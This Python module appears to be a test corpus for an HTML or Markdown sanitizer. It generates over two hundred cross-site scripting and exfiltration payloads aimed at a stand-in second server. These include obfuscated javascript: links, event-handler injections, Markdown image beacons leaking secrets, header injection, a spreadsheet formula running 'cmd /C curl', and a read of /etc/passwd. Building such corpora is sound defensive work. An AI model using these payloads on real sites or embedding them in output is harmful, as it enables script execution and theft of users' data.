"""What somebody might write, or have a model write, to run something in a reader's browser or to send something out.

`corpus(elsewhere)` has more than two hundred; each that fetches names `elsewhere`, the address of a real second server,
which must hear of none. Each that runs sets `window.ran`.
"""

from itertools import product

RUN = "window.ran=1"


def corpus(elsewhere: str) -> list[str]:
    """The payloads, each of its own kind."""
    found: list[str] = []
    at = elsewhere

    # Elements that fetch or run by themselves.
    for tag, attribute in product(("img", "script", "iframe", "embed", "video", "audio", "source", "track"), ("src",)):
        found.append(f"<{tag} {attribute}={at}/{tag}>")
    found += [f"<{tag} {attribute}={at}/{tag}></{tag}>" for tag, attribute in (
        ("object", "data"), ("link rel=stylesheet", "href"), ("link rel=prefetch", "href"),
        ("link rel=preload as=image", "href"),
        ("link rel=icon", "href"), ("link rel=dns-prefetch", "href"), ("base", "href"), ("body", "background"),
        ("input type=image", "src"), ("video", "poster"), ("table", "background"), ("image", "src"),
        ("meta http-equiv=refresh", "content='0;url=" + at + "' x"), ("svg><image", "href"), ("svg><use", "href"),
        ("svg><feImage", "href"), ("frame", "src"), ("portal", "src"), ("img", "srcset"), ("picture><source", "srcset"),
    )]  # fmt: skip

    # Handlers, in every place that has them.
    handlers = (
        "onerror",
        "onload",
        "onfocus",
        "onmouseover",
        "onanimationstart",
        "ontoggle",
        "onpointerenter",
        "onbegin",
    )
    carriers = ("img src=x", "svg", "body", "input autofocus", "details open", "marquee", "video src=x", "svg><animate")
    found += [f"<{carrier} {handler}={RUN}>" for carrier, handler in product(carriers, handlers)]

    # Scripts, whole and in disguise.
    found += [
        f"<script>{RUN}</script>",
        f"<SCRIPT>{RUN}</SCRIPT>",
        f"<scr<script>ipt>{RUN}</scr</script>ipt>",
        f"<script/x>{RUN}</script>",
        f"</textarea><script>{RUN}</script>",
        f"</title><script>{RUN}</script>",
        f"</style><script>{RUN}</script>",
        f"--><script>{RUN}</script>",
        f"]]><script>{RUN}</script>",
        f"<![CDATA[<script>{RUN}</script>]]>",
        f"<svg><script>{RUN}</script></svg>",
        f"<math><mtext><script>{RUN}</script></mtext></math>",
        f"<noscript><p title='</noscript><img src=x onerror={RUN}>'></noscript>",
        f"<template><script>{RUN}</script></template>",
        "<iframe srcdoc='<script>parent.ran=1</script>'></iframe>",
        f"<style>@import '{at}/style';</style>",
        f"<style>*{{background:url({at}/css)}}</style>",
        f"<div style='background:url({at}/inline)'>x</div>",
        f"<div style='background-image:url({at}/inline2)'>x</div>",
        f'<font style="list-style:url({at}/list)">x</font>',
        "\u2028<script>" + RUN + "</script>",
        "\ufeff<script>" + RUN + "</script>",
        "{{constructor.constructor('" + RUN + "')()}}",
        "${" + RUN + "}",
        "<%= " + RUN + " %>",
        "javascript:" + RUN,
        f"';{RUN};//",
        f'";{RUN};//',
        f"`;{RUN};//",
        "__proto__",
        '{"type":"script","props":{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=' + RUN + '>"}}}',
    ]

    # Pictures of Markdown, which would tell their server who reads what.
    pictures = (
        "![]({at}/p?q=secret)", "![x]({at}/p)", "![x](<{at}/p>)", "![x]({at}/p 'title')", "[![x]({at}/p)]({at}/l)",
        "![x][ref]\n\n[ref]: {at}/p", "![ref]\n\n[ref]: {at}/p", "![x](//{host}/p)", "![x](\\\\{host}/p)",
        "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9d2luZG93LnJhbj0xPg==)", "> ![x]({at}/p)", "- ![x]({at}/p)",
        "| a |\n|-|\n| ![x]({at}/p) |", "# ![x]({at}/p)", "**![x]({at}/p)**", "![x]({at}/p#`)",
        "![a![b]({at}/b)]({at}/a)",
        "![x](ftp://{host}/p)", "![x](ws://{host}/p)", "![x]({at}/p\n)",
    )  # fmt: skip
    found += [picture.format(at=at, host=at.removeprefix("http://")) for picture in pictures]

    # Links that run, however they are spelt.
    schemes = (
        "javascript:", "JaVaScRiPt:", "java\tscript:", "java\nscript:", " javascript:", "\u0001javascript:",
        "javascript&colon;",
        "&#106;avascript:", "&#x6A;avascript&#58;", "jav&#x09;ascript:", "vbscript:", "data:text/html,", "blob:", "file:///",
        "filesystem:", "view-source:javascript:", "livescript:", "mocha:", "intent:", "javascript\\:",
    )  # fmt: skip
    for scheme in schemes:
        found.append(f"[go]({scheme}{RUN})")
        found.append(f"[go](<{scheme}{RUN}>)")
        found.append(f"[go][r]\n\n[r]: {scheme}{RUN}")
        found.append(f"<{scheme}{RUN}>")

    # What fetches without being an element with a source: hints, rules, styles, pings, forms, headers.
    ahead = '{"prefetch":[{"source":"list","urls":["' + at + '/rules"]}]}'
    found += [
        f'<meta http-equiv="refresh" content="0;url={at}/refresh">',
        "<meta name=referrer content=unsafe-url>",
        f"<link rel=preconnect href={at}>",
        f"<link rel=modulepreload href={at}/module>",
        f"<link rel=prerender href={at}/prerender>",
        f"<link rel=manifest href={at}/manifest>",
        f"<script type=speculationrules>{ahead}</script>",
        f"<style>@font-face{{font-family:x;src:url({at}/font)}}*{{font-family:x}}</style>",
        f"<style>input[value^=s]{{background:image-set(url({at}/leak) 1x)}}</style>",
        f'<p style="--x:url({at}/variable);background:var(--x)">x</p>',
        f"<svg><style>@import url({at}/svg-style);</style></svg>",
        f"<svg><foreignObject><iframe src={at}/foreign></iframe></foreignObject></svg>",
        f"<svg><filter><feImage xlink:href={at}/filter /></filter></svg>",
        f"<a href=/ ping={at}/ping>x</a>",
        f"<form action={at}/form><button autofocus>x</button></form>",
        f"<button formaction=javascript:{RUN}>x</button>",
        f"<video><source srcset={at}/set></video>",
        f"x\r\nLink: <{at}/header>; rel=preload; as=image\r\nRefresh: 0;url={at}/refresh-header",
        f'"; filename="x.html"\r\nLocation: {at}/named',
        f'=HYPERLINK("{at}/cell?"&A1;"total")',
        f'@IMPORTXML("{at}/cell","//x")',
        f"+cmd|' /C curl {at}'!A0",
        f'#image("{at}/typst.png") #link("{at}/typst")[x] #read("/etc/passwd")',
        f"\\href{{javascript:{RUN}}}{{x}} $$\\includegraphics{{{at}/tex}}$$",
        f'```mermaid\ngraph TD; A-->B; click A href "javascript:{RUN}"\n```',
        f"\x1b]8;;{at}/terminal\x1b\\x\x1b]8;;\x1b\\",
    ]

    # Links that are set, moved or disguised by something else.
    found += [
        f"<svg><a xlink:href=javascript:{RUN}><text>x</text></a></svg>",
        f"<svg><a><animate attributeName=href values=javascript:{RUN} /><text>x</text></a></svg>",
        f"<svg><a><set attributeName=href to=javascript:{RUN} /><text>x</text></a></svg>",
        f"<math href=javascript:{RUN}>x</math>",
        f"<a href=javascript:{RUN} target=_self>x</a>",
        f"<area href=javascript:{RUN}>",
        f"[x](data:text/html;base64,PHNjcmlwdD5vcGVuZXIucmFuPTE8L3NjcmlwdD4= 'title {RUN}')",
        f"[x](data:image/svg+xml,<svg onload={RUN}>)",
        f"[x](\uff4aavascript:{RUN})",
        f"[x](java\u00adscript:{RUN})",
        f"[x](javascript\u2028:{RUN})",
        f"[x](java\u200bscript:{RUN})",
        f"[x](http:javascript:{RUN})",
        f"[x](//{at.removeprefix('http://')}/relative)",
        f"[x](/\\{at.removeprefix('http://')}/backslash)",
        f"[x](/api/v1/me?{RUN})",
        f"[https://ex\u0430mple.com]({at}/homograph)",
        f"[x]({at}/\u202egpj.exe)",
        f"[x](mailto:a@example.com?bcc=b@example.com&body=%0A<script>{RUN}</script>)",
        f"www.{at.removeprefix('http://')}/by-itself a@{at.removeprefix('http://')}",
        f"[x]: {at}/defined\n[x]: javascript:{RUN}\n\n[x] ![x]",
        f"[{at}/a](javascript:{RUN}//{at}/b)",
    ]

    # What confuses parsers: depth, length, characters without width, other directions.
    found += [
        "> " * 300 + "deep",
        "- " * 200 + "deep",
        "*" * 3000,
        "[" * 1500,
        "![" * 1000,
        "`" * 2001,
        "<" * 2000,
        "|" * 500 + "\n" + "|-" * 250,
        "\u202e" + "gpj.exe\u202c [x](javascript:" + RUN + ")",
        "\u200b".join("<script>") + RUN,
        "&lt;script&gt;" + RUN + "&lt;/script&gt;",
        "&#60;img src=x onerror=" + RUN + "&#62;",
        "```html\n<img src=" + at + "/fence onerror=" + RUN + ">\n```",
        "    <img src=" + at + "/indented>",
        "~~<img src=" + at + "/del>~~",
        "[^1]\n\n[^1]: <img src=" + at + "/note>",
        "<!-- <img src=" + at + "/comment> -->",
        "<?php <img src=" + at + "/pi> ?>",
        "<!DOCTYPE html><img src=" + at + "/doctype>",
        at + "/just-an-address?secret=1",
    ]
    return found
